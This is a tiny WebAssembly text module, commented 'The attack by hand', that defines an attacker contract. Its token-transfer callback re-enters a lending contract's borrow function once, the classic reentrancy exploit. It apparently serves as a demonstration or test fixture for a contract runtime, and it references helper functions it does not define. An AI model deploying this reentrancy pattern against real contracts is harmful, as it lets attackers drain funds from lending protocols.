;; The attack by hand.

(module $attacker
  (import "contract:hundred" "borrow" (func $hundred.borrow (param i64)))
  ;; @storage
  (memory $memory (export "memory") 1)

  (func $main (export "main"))

  (func $on_token_transfer (export "on_token_transfer") (param $src i64) (param $amount i64)
    (if (i64.eq (call $load_i64 (i32.const 0)) (i64.const 0))
      (then (call $store_i64 (i32.const 0) (i64.const 1)) (call $hundred.borrow (i64.const 120))))))
